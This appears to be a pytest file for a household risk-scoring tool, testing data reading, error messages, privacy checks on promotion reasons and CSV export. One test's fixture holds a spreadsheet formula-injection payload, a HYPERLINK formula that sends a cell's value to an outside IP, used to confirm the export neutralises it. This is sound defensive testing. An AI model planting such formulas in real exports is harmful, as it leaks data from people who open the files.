"""risk_job wiring: policy [risk] -> library settings, data resolution, error conversion."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np
import polars as pl
import pytest

from risk_model import household_spec, parse_spec
from visit_planner.contracts.reader import NOT_USED_BY_MODEL_RULE, cast_to_contract
from visit_planner.contracts.tables import read_table
from visit_planner.errors import VisitPlannerError
from visit_planner.policy import load_policy
from visit_planner.risk_job import (
    RiskJobError,
    drift_path,
    read_data,
    resolve_data,
    risk_settings,
    user_errors,
)

GENERIC = """
id_column = "id"
[target]
column = "y"
classes = ["bad", "ok"]
[features]
numeric = ["x"]
"""


def test_household_settings_follow_the_policy() -> None:
    policy = load_policy()
    s = risk_settings(policy, household_spec())
    assert [list(r) for r in s.rule.cost] == policy.risk.cost_matrix
    assert [r.code for r in s.rules] == [r.code for r in policy.risk.rules]
    # min_tier 2 is class index 1 (tier 1 is index 0).
    assert all(r.min_class == 1 for r in s.rules)
    assert s.psi_threshold == policy.risk.psi_threshold
    assert s.gate.recall_tolerance == policy.risk.gate_recall_tolerance
    assert s.on_unseen == "error"


def test_other_datasets_get_the_ordinal_default_and_no_household_rules() -> None:
    s = risk_settings(load_policy(), parse_spec(GENERIC))
    assert s.rules == ()
    assert np.array_equal(s.rule.matrix, [[0.0, 2.0], [1.0, 0.0]])


def test_data_resolution_and_reading(tmp_path: Path) -> None:
    pl.DataFrame({"a": [1]}).write_parquet(tmp_path / "households.parquet")
    assert resolve_data(tmp_path) == tmp_path / "households.parquet"
    with pytest.raises(
        RiskJobError, match=r": 目录中没有该数据文件 \(no truth\.parquet or truth\.csv"
    ):
        resolve_data(tmp_path, "truth")
    with pytest.raises(
        RiskJobError, match=r"nope\.parquet: 找不到文件或目录 \(no such file or directory\)$"
    ):
        resolve_data(tmp_path / "nope.parquet")
    (tmp_path / "t.txt").write_text("x")
    with pytest.raises(RiskJobError, match=r"t\.txt: 不支持的文件类型 '\.txt', 请用 \.parquet 或"):
        read_data(tmp_path / "t.txt")
    assert drift_path(Path("out/scores.parquet")) == Path("out/scores.drift.csv")


def test_truth_and_override_tables_are_read_typed_and_a_short_line_is_named(
    tmp_path: Path,
) -> None:
    # The contracts' reader, with types: a good file keeps its numbers; a line with fewer
    # fields than the header is refused by line (polars would pad it with nulls), GBK text
    # is read, a ';' file is named.
    good = tmp_path / "truth.csv"
    good.write_text("household_id,true_tier,p\nH1,1,0.5\nH2,3,0.25\n", "utf-8")
    frame = read_data(good)
    assert frame.schema["true_tier"] == pl.Int64 and frame.schema["p"] == pl.Float64
    assert frame["true_tier"].to_list() == [1, 3]
    short = tmp_path / "short.csv"
    short.write_text("household_id,true_tier,p\nH1,1,0.5\nH2,3\n", "utf-8")
    named = r"short\.csv: 第 3 行, household_id 为 H2.*\(line 3 \(household_id H2\) has 2 fields"
    with pytest.raises(RiskJobError, match=named):
        read_data(short)
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes("household_id,原因\nH1,独居老人\n".encode("gbk"))
    assert read_data(gbk)["原因"].to_list() == ["独居老人"]
    gone = r"gone\.csv: 无法读取文件 \(cannot read the file: No such file"
    with pytest.raises(RiskJobError, match=gone):
        read_data(tmp_path / "gone.csv")  # a truth file given by path that is not there
    semi = tmp_path / "semi.csv"
    semi.write_text("household_id;true_tier\nH1;1\n", "utf-8")
    with pytest.raises(RiskJobError, match=r"semi\.csv: 列以分号分隔"):
        read_data(semi)


def test_library_errors_become_cli_errors() -> None:
    from risk_model import SpecError

    with pytest.raises(VisitPlannerError, match="bad spec"), user_errors():
        raise SpecError("bad spec")
    from risk_model.errors import ConfigError

    with pytest.raises(VisitPlannerError, match="cost matrix"), user_errors():
        raise ConfigError("cost matrix must be 3x3")


def test_a_bug_keeps_its_traceback() -> None:
    # Only the risk library's own errors are the user's; a stray ValueError is a bug.
    with pytest.raises(ValueError, match="a bug") as info, user_errors():
        raise ValueError("a bug")
    assert not isinstance(info.value, VisitPlannerError)


def _zh_households_csv(households: pl.DataFrame, path: Path, encoding: str) -> None:
    """``households`` as a Chinese office export: 是/否 booleans, A级 / 洪涝 codes, GBK text
    (``encoding``), plus an ID-card column the contract does not have."""
    zh = households.with_columns(
        *(
            pl.col(c).replace_strict({True: "是", False: "否"}, return_dtype=pl.String)
            for c in ("elderly_living_alone", "low_income_allowance", "poverty_relapse_watch")
        ),
        pl.col("housing_safety_grade") + "级",
        pl.col("hazard_exposure").replace(
            {"none": "无", "drought": "干旱", "landslide": "滑坡", "flood": "洪涝"}
        ),
        pl.lit("532600199001011234").alias("id_card"),
    )
    path.write_bytes(zh.write_csv().encode(encoding))


def test_model_data_is_read_like_validate_reads_it(
    small_prefecture_dir: Path, tmp_path: Path
) -> None:
    """Tester's defects 1, 8 and 17: a GB18030 CSV with 是/否 and Chinese codes, which
    ``validate`` accepts, reads as the same households as the Parquet file; the extra
    ID-card column is dropped with a warning naming it."""
    from visit_planner.risk_job import read_model_data

    households = pl.read_parquet(small_prefecture_dir / "households.parquet")
    csv = tmp_path / "households.csv"
    _zh_households_csv(households, csv, "gb18030")
    data = read_model_data(csv, household_spec(), builtin=True, training=True)
    for c in ("elderly_living_alone", "housing_safety_grade", "hazard_exposure", "members"):
        assert data.frame[c].to_list() == households[c].to_list(), c
    assert "id_card" not in data.frame.columns
    # One wording for a dropped column: validate's (the contracts' reader), word for word.
    _, validated = read_table(csv, "households")
    assert data.warnings == [p.message() for p in validated if p.column == "id_card"]
    assert data.warnings[0].startswith(
        f"{csv}: column 'id_card': 契约外的列, 已删除, 不再读取 (not in the contract: dropped"
    )
    assert "契约外的列" in data.warnings[0]


SURVEY_SPEC = """
id_column = "hh_id"
[target]
column = "need"
classes = ["high", "low"]
[features]
numeric = ["income"]
boolean = ["has_toilet"]
"""


def test_a_spec_table_reads_yes_no_and_names_bad_values(tmp_path: Path) -> None:
    """是/否 and yes/no are booleans (not a polars traceback); text in a numeric column is an
    error naming the file, the column, the row's id and the value; columns outside the
    spec are dropped with a warning."""
    from visit_planner.risk_job import read_model_data

    spec = parse_spec(SURVEY_SPEC)
    csv = tmp_path / "survey.csv"
    csv.write_text(
        "hh_id,income,has_toilet,need,phone\nS1,10,是,high,139\nS2,20,no,low,138\nS3,,YES,low,137\n",
        encoding="utf-8",
    )
    data = read_model_data(csv, spec, builtin=False, training=True)
    assert data.frame["has_toilet"].to_list() == [True, False, True]
    assert data.frame["income"].to_list() == [10.0, 20.0, None]
    # The contracts' function, in the model's words: the spec is the table's contract, and a
    # column outside it (or a feature training dropped, when a model's spec reads it) is one
    # the model does not use.
    _, dropped = cast_to_contract(
        pl.DataFrame({"phone": ["139"]}), {}, str(csv), (), extra_rule=NOT_USED_BY_MODEL_RULE
    )
    assert data.warnings == [dropped[0].message()]
    assert data.warnings[0].startswith(
        f"{csv}: column 'phone': 模型不使用的列, 已删除, 不再读取 (not used by the model: dropped"
    )
    csv.write_text("hh_id,income,has_toilet,need\nS1,10,是,high\nS9,unknown,否,low\n")
    with pytest.raises(RiskJobError) as err:
        read_model_data(csv, spec, builtin=False, training=True)
    assert str(err.value) == (
        f"{csv}: column 'income': 类型错误, 应为数字 (value is not a number) — 1 row: S9 (unknown)"
    )


def test_a_spec_tables_numbers_with_thousands_separators_are_read_and_said(
    tmp_path: Path,
) -> None:
    """A survey's income exported as 22,772 (a spreadsheet's formatted column) was refused row
    by row as 'not a valid Float64'; grouped numbers are read, with a warning naming the column.
    A comma that is no thousands separator (1,5) is still refused, its value shown."""
    from visit_planner.risk_job import read_model_data

    spec = parse_spec(SURVEY_SPEC)
    csv = tmp_path / "survey.csv"
    csv.write_text(
        'hh_id,income,has_toilet,need\nS1,"22,772",是,high\nS2,950.5,否,low\n'
        'S3,"-1,234,567.25",是,low\nS4,,否,low\n',
        encoding="utf-8",
    )
    data = read_model_data(csv, spec, builtin=False, training=True)
    assert data.frame["income"].to_list() == [22772.0, 950.5, -1234567.25, None]
    assert data.warnings == [
        f"{csv}: column 'income': 已去掉千位分隔符, 按数值读取 (thousands separators removed: "
        "'22,772' read as 22772) — 2 value(s)"
    ]
    for odd in ("1,5", "12,34", "1,2345"):
        csv.write_text(f'hh_id,income,has_toilet,need\nS1,"22,772",是,high\nS2,"{odd}",否,low\n')
        with pytest.raises(RiskJobError) as err:
            read_model_data(csv, spec, builtin=False, training=True)
        assert str(err.value) == (
            f"{csv}: column 'income': 类型错误, 应为数字 (value is not a number) — 2 rows: "
            f"S1 (22,772), S2 ({odd})"
        )


def test_a_row_without_an_id_is_named_by_its_csv_line(tmp_path: Path) -> None:
    """A spec table's row without an id is named by the line an editor shows it on, as
    ``validate`` names it (it said ``row 2``, one short of the file's line 3), also after a
    quoted field that spans lines."""
    from visit_planner.risk_job import read_model_data

    spec = parse_spec(SURVEY_SPEC)
    csv = tmp_path / "survey.csv"
    csv.write_text("hh_id,income,has_toilet,need\nS1,10,是,high\n,x,否,low\n", encoding="utf-8")
    with pytest.raises(RiskJobError) as err:
        read_model_data(csv, spec, builtin=False, training=True)
    assert "第 3 行 line 3 (x)" in str(err.value), str(err.value)
    csv.write_text(
        'hh_id,income,has_toilet,need,note\nS1,10,是,high,"two\nlines"\n,x,否,low,\n',
        encoding="utf-8",
    )
    with pytest.raises(RiskJobError) as err:
        read_model_data(csv, spec, builtin=False, training=True)
    assert "第 4 行 line 4 (x)" in str(err.value), str(err.value)


def test_a_doubled_column_and_an_ambiguous_directory_are_refused(tmp_path: Path) -> None:
    from visit_planner.errors import ContractError
    from visit_planner.risk_job import read_model_data

    csv = tmp_path / "dup.csv"
    csv.write_text("hh_id,income,has_toilet,need,income\nS1,10,是,high,1\n")
    with pytest.raises(
        RiskJobError, match=r"dup\.csv: 列名重复, 请只保留一个 \(column\(s\) income appear more"
    ):
        read_model_data(csv, parse_spec(SURVEY_SPEC), builtin=False, training=True)
    both = tmp_path / "both"
    both.mkdir()
    pl.DataFrame({"a": [1]}).write_parquet(both / "households.parquet")
    pl.DataFrame({"a": [1]}).write_csv(both / "households.csv")
    with pytest.raises(ContractError, match=r"both households\.parquet and households\.csv exist"):
        resolve_data(both)


def test_promotion_audit_has_no_nan() -> None:
    """Tester's defect 11: an undefined group gap was written as the invalid JSON token NaN."""
    import json
    import math

    from risk_model.promote import json_safe

    entry = {"candidate": {"largest_group_gap": math.nan, "macro_f1": 0.5}, "gaps": [math.inf]}
    text = json.dumps(json_safe(entry), allow_nan=False)
    assert json.loads(text) == {
        "candidate": {"largest_group_gap": None, "macro_f1": 0.5},
        "gaps": [None],
    }


def test_a_households_model_predicts_the_households_tiers_from_the_contracts_columns() -> None:
    """What ``promote`` requires of a champion and scoring with the champion of the one in
    place: the households' target and tiers, their id, contract columns, p_tier1..3."""
    from risk_model.spec import spec_from_dict
    from visit_planner.risk_job import households_model_problem

    builtin = household_spec()
    assert households_model_problem(builtin) is None
    lean = builtin.to_dict() | {
        "numeric": ["members"],
        "categorical": [],
        **{k: {} for k in ("bounds", "levels", "units", "labels", "level_labels")},
    }
    assert households_model_problem(spec_from_dict(lean)) is None  # fewer features: fine
    renamed = builtin.to_dict() | {"probability_columns": ["a", "b", "c"]}
    assert households_model_problem(spec_from_dict(renamed)) == (
        "its probabilities are named a, b, c, not p_tier1, p_tier2, p_tier3"
    )
    previous = lean | {"target": "previous_tier"}
    assert households_model_problem(spec_from_dict(previous)) == (
        "it predicts 'previous_tier' [1, 2, 3], not the households' 'assessed_tier' [1, 2, 3]"
    )
    survey = parse_spec(
        GENERIC.replace('numeric = ["x"]', 'numeric = ["x", "members", "a", "b", "c", "d", "e"]')
    )
    assert households_model_problem(survey) == (
        "it predicts 'y' ['bad', 'ok'], not the households' 'assessed_tier' [1, 2, 3]; its rows "
        "are keyed by 'id', not 'household_id'; its feature(s) x, a, b, c, d (+1 more) are not "
        "households contract columns"
    )


def test_training_takes_the_corrected_values_and_nothing_else(
    small_prefecture_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """train --corrections: the frame the model is fitted on holds the supervisors' values
    where they apply and the data's own everywhere else."""
    data = pl.read_parquet(small_prefecture_dir / "households.parquet")
    first = data["household_id"][0]
    members = int(data["members"][0])
    corrections = tmp_path / "corrections.csv"
    pl.DataFrame(
        {
            "override_id": [1],
            "household_id": [first],
            "field": ["members"],
            "value": [str(members + 2)],
            "reason": ["张三 电话告知"],
            "status": ["active"],
        }
    ).write_csv(corrections)
    frame = _frame_trained_on(small_prefecture_dir, monkeypatch, corrections=corrections)
    assert frame.filter(pl.col("household_id") == first)["members"].to_list() == [members + 2]
    plain = _frame_trained_on(small_prefecture_dir, monkeypatch)
    differs = (
        frame.with_row_index()
        .join(plain.with_row_index(), on="index")
        .filter(
            pl.any_horizontal(pl.col(c).ne_missing(pl.col(f"{c}_right")) for c in frame.columns)
        )
    )
    assert differs["household_id"].to_list() == [first]


def _frame_trained_on(data: Path, monkeypatch: pytest.MonkeyPatch, **kw: Any) -> pl.DataFrame:
    """The frame train_from_file hands the library's train (stopped there)."""
    import risk_model
    from visit_planner.risk_job import train_from_file

    seen: list[pl.DataFrame] = []

    def fitted_on(frame: pl.DataFrame, *args: object, **kwargs: object) -> None:
        seen.append(frame)
        raise RiskJobError("stopped after the data")

    monkeypatch.setattr(risk_model, "train", fitted_on)
    with pytest.raises(RiskJobError, match="stopped after the data"):
        train_from_file(data, register=False, **kw)
    return seen[0]


def test_corrections_are_refused_for_a_spec_tables_model(tmp_path: Path) -> None:
    from visit_planner.risk_job import train_from_file

    table = tmp_path / "t.csv"
    table.write_text("id,x,y\n1,0.5,bad\n2,0.1,ok\n", encoding="utf-8")
    spec = tmp_path / "spec.toml"
    spec.write_text(GENERIC, encoding="utf-8")
    corrections = tmp_path / "c.csv"
    corrections.write_text("override_id,household_id,field,value\n1,H1,members,3\n", "utf-8")
    with pytest.raises(RiskJobError, match=r"--corrections applies to a households model, not"):
        train_from_file(table, spec_path=spec, corrections=corrections, register=False)


@pytest.mark.parametrize(
    ("reason", "what"),
    [
        (
            "张三同意, 电话 13912345678",
            "手机号码, 请勿填写个人身份信息 (--reason holds what looks like a mobile",
        ),
        (
            "户主 53262619800101123X 复核",
            "身份证号码, 请勿填写个人身份信息 (--reason holds what looks like an ID",
        ),
        ("电话 １３９１２３４５６７８", "手机号码"),  # typed in full width
    ],
)
def test_a_forced_promotions_reason_with_a_persons_number_is_refused_before_any_work(
    tmp_path: Path, reason: str, what: str
) -> None:
    """The reason becomes a tag of the model version in MLflow, a line of models and of the
    audit logs: it was kept whole with a mobile number in it."""
    from visit_planner.risk_job import promote_version

    with pytest.raises(RiskJobError) as exc:
        promote_version(1, tmp_path / "no-data", force=True, reason=reason, home=tmp_path / "ws")
    assert str(exc.value).startswith(f"原因中含疑似{what}")
    assert "13912345678" not in str(exc.value) and "1234" not in str(exc.value)
    assert not (tmp_path / "ws").exists()  # refused before the workspace was touched


def test_a_scores_csv_opens_in_a_spreadsheet_without_running_a_formula(
    small_prefecture_dir: Path, tmp_path: Path
) -> None:
    """score --out scores.csv wrote a supervisor's override reason '=HYPERLINK(…)' as it was,
    which Excel or WPS runs when the file is opened, and without a BOM, so they showed its
    Chinese garbled; it is now marked ' and the file has a BOM. The columns assign --scores
    reads back (household_id, model_version) were written as they were, so an id the
    contracts accept (any non-blank text: -H1, =1+1, @H4) ran as a formula in Excel; such a
    cell is now written as the formula of its text (="-H1": shown as -H1, nothing run),
    which the contracts' reader reads back as the id itself."""
    from visit_planner.risk_job import _atomic_write

    link = '=HYPERLINK("http://198.51.100.9/?d="&A2,"看")'
    scores = pl.DataFrame(
        {
            "household_id": ["-H1", "H2", "=1+1", "@H4"],
            "final_tier": pl.Series([1, 3, 2, 3], dtype=pl.Int8),
            "p_tier1": [0.9, 0.1, 0.3, 0.1], "model_version": ["3"] * 4,
            "tier_source": ["override", "model", "model", "model"],
            "override_reason": [link, None, None, None],
            "reasons": [["+elderly"], [], [], []],
        }
    )  # fmt: skip
    path = tmp_path / "scores.csv"
    _atomic_write(scores, path)
    raw = pl.read_csv(path, infer_schema=False)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM: a spreadsheet reads 看
    assert raw["override_reason"][0] == f"'{link}" and raw["reasons"][0] == '["+elderly"]'
    # No cell a spreadsheet runs: each such id is the formula of its text.
    assert raw["household_id"].to_list() == ['="-H1"', "H2", '="=1+1"', '="@H4"']
    frame, _ = read_table(path, "scores")  # as assign, check-plan and explain read it
    assert frame["household_id"].to_list() == ["-H1", "H2", "=1+1", "@H4"]
    # The contracts accept such ids in the households (so they do reach the scores).
    households = tmp_path / "households.parquet"
    four = pl.read_parquet(small_prefecture_dir / "households.parquet").head(4)
    four.with_columns(household_id=frame["household_id"]).write_parquet(households)
    read, _ = read_table(households, "households")
    assert read["household_id"].to_list() == ["-H1", "H2", "=1+1", "@H4"]


def test_score_file_reports_every_problem_of_the_file_in_one_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A scoring file with a non-number, an unseen category and a value outside the spec's
    bounds was refused for the non-number alone; the unseen category and the bound came
    only once it was fixed, a run each. Now one run names all three (file, column, rule,
    rows) and writes nothing. The model is trained here, in-process, without MLflow."""
    from dataclasses import replace

    from risk_model import DecisionRule, train
    from risk_model.decision import ordinal_cost_matrix
    from risk_model.training import TrainConfig
    from visit_planner import risk_job

    spec = parse_spec(
        SURVEY_SPEC.replace(
            'boolean = ["has_toilet"]', 'boolean = ["has_toilet"]\ncategorical = ["roof"]'
        )
        + "[bounds]\nincome = [-10, 10]\n"
    )
    rng = np.random.default_rng(0)
    n = 300
    income = rng.normal(size=n)
    frame = pl.DataFrame(
        {
            "hh_id": [f"S{i:05d}" for i in range(n)],
            "income": income,
            "has_toilet": rng.random(n) < 0.5,
            "roof": ["tile", "metal", "thatch"] * 100,
            "need": np.where(income + rng.logistic(size=n) > 0, "high", "low"),
        }
    )
    rule = DecisionRule.from_matrix(ordinal_cost_matrix(2), 2)
    config = replace(TrainConfig(), kind="logistic", params={}, select=False)
    result = train(frame, spec, rule, config=config)
    data = tmp_path / "new.csv"
    context = risk_job.ScoringContext(
        model=result.pipeline,
        spec=result.spec,
        rule=result.rule,
        tables=result.reason_tables,
        drift_reference=result.drift_reference,
        model_version="1",
        rules=(),
        psi_threshold=0.2,
        on_unseen="error",
        source=str(data),
    )
    monkeypatch.setattr(risk_job, "scoring_context", lambda **_: context)
    frame.with_columns(
        pl.when(pl.col("hh_id") == "S00001")
        .then(pl.lit("unknown"))
        .when(pl.col("hh_id") == "S00002")
        .then(pl.lit("500"))
        .otherwise(pl.col("income").cast(pl.String))
        .alias("income"),
        pl.when(pl.col("hh_id") == "S00003")
        .then(pl.lit("concrete"))
        .otherwise(pl.col("roof"))
        .alias("roof"),
    ).write_csv(data)
    out = tmp_path / "scores.parquet"
    with pytest.raises(RiskJobError) as err:
        risk_job.score_file(data, out, version=1, home=tmp_path)
    text = str(err.value)
    assert (
        f"{data}: column 'income': 类型错误, 应为数字 (value is not a number) — 1 row: "
        "S00001 (unknown)"
    ) in text
    assert (
        "roof: 训练中未出现的类别 (unseen category ['concrete'] in 1 row(s), e.g. "
        "S00003; known: ['metal', 'thatch', 'tile'])"
    ) in text
    assert (
        "income: 超出有效范围 (1 value(s) outside the valid range [-10, 10] or NaN, e.g. S00002)"
    ) in text
    assert "score --unseen missing" in text  # the documented way past an unseen category
    assert not out.exists() and not list(tmp_path.glob("scores*"))


def test_a_spec_tables_header_is_read_as_its_specs_columns_with_validates_notes(
    tmp_path: Path,
) -> None:
    """A spec's table whose header read 'HH_ID', 'Income ' and 'NEED' (as typed in Excel),
    with an empty row saved at its end, was refused as missing the spec's columns; it is
    read as the spec's columns, the reader's notes among the warnings, first."""
    from visit_planner.risk_job import read_model_data

    csv = tmp_path / "survey.csv"
    csv.write_text("HH_ID,Income ,has_toilet,NEED\nS1,10,是,high\nS2,20,no,low\n,,,\n", "utf-8")
    data = read_model_data(csv, parse_spec(SURVEY_SPEC), builtin=False, training=True)
    assert data.frame.columns == ["hh_id", "need", "income", "has_toilet"]
    assert data.frame["hh_id"].to_list() == ["S1", "S2"]
    assert data.warnings == [
        f"{csv}: 表头列名已按规定列名读取 (header names read as the columns they name, ignoring "
        "case, spaces and full-width forms): 'HH_ID' → 'hh_id', 'Income ' → 'income', "
        "'NEED' → 'need'",
        f"{csv}: 文件末尾的 1 个空行已忽略 (ignored 1 empty row at the end of the file, as "
        "Excel/WPS saves them)",
    ]
